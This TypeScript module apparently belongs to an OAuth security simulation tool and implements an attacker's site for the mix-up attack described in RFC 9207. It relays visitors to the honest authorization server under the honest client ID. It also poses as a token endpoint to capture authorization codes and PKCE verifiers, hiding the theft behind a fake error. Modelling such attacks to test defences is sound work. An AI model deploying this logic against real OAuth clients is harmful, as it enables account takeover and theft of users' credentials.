import {
  encodeForm,
  formValue,
  parseForm,
  pathOf,
  queryFields,
  urlOf,
  type HttpRequest,
  type HttpResponse,
} from '@flowscope/http-message'
import { jsonAnswer, pageAnswer, redirectAnswer } from '../site-answer.ts'
import { stealCode, type StolenCode } from './steal-code.ts'

/** What the attacker's site needs of the place that hosts it. */
export interface SiteHost {
  /** Milliseconds since the epoch. */
  readonly now: () => number
  /** The authorize endpoint and the consumer key that the attacker pretends to stand for. */
  readonly honest: () => { readonly authorize: string; readonly clientId: string }
  /** Whatever of value arrived. */
  readonly caught: (found: Caught) => void
}

export interface Caught {
  readonly code: StolenCode | null
  readonly verifier: string | null
  readonly secret: string | null
}

/**
 * The attacker's own site: it catches codes that are sent to it, and plays an authorization server
 * that passes its visitors on to the honest one (the mix-up of RFC 9207 §1, RFC 9700 §4.4).
 */
export function attackerSite(host: SiteHost): (request: HttpRequest) => HttpResponse {
  return (request) => {
    switch (pathOf(request.target)) {
      case '/services/oauth2/authorize':
        return passOn(request, host)
      case '/services/oauth2/token':
        return takeProofs(request, host)
      default:
        return takeCode(request, host)
    }
  }
}

/** The visitor is sent on with the same question, asked in the honest app's name. */
function passOn(request: HttpRequest, { now, honest }: SiteHost): HttpResponse {
  const { authorize, clientId } = honest()
  const fields = queryFields(request).map(
    ({ name, value }) => [name, name === 'client_id' ? clientId : value] as const,
  )
  return redirectAnswer(302, now(), `${authorize}?${encodeForm(fields)}`, [])
}

/** The web app takes this for its token endpoint, and hands over what it has. */
function takeProofs({ body }: HttpRequest, { now, caught }: SiteHost): HttpResponse {
  const fields = parseForm(body)
  const value = (name: string) => formValue(fields, name) ?? null
  const [code, redirectUri] = [value('code'), value('redirect_uri')]
  caught({
    code: code === null ? null : stealCode(`${redirectUri ?? ''}?${encodeForm([['code', code]])}`),
    verifier: value('code_verifier'),
    secret: null,
  })
  return jsonAnswer(503, now(), { error: 'temporarily_unavailable' })
}

function takeCode(request: HttpRequest, { now, caught }: SiteHost): HttpResponse {
  caught({ code: stealCode(urlOf(request)), verifier: null, secret: null })
  return pageAnswer(200, now(), thanks)
}

const thanks = { title: 'Thank you', text: 'You will be taken back in a moment.' }
